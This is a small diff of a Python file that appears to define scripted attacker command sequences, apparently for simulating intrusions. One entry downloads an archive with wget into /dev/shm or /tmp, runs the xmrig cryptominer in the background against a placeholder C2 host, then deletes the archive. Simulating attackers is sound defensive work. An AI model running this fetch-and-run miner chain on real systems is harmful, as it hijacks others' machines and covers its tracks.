@@ -104,7 +104,8 @@ SCRIPTS: Final[dict[str, tuple[str, ...]]] = {
     "forge_fetch": (
         "cd /dev/shm || cd /tmp",
         "wget -q {url} -O {file}.tar.gz",
-        "tar xzf {file}.tar.gz && cd xmrig-* && ./xmrig -o {c2}:{c2_port} --donate-level 1 -B",
+        "tar xzf {file}.tar.gz && cd xmrig-* && "
+        "./xmrig -o {c2}:{c2_port} --donate-level 1 -B",
         "rm -f /dev/shm/{file}.tar.gz",
     ),
     # A person looking around by hand.
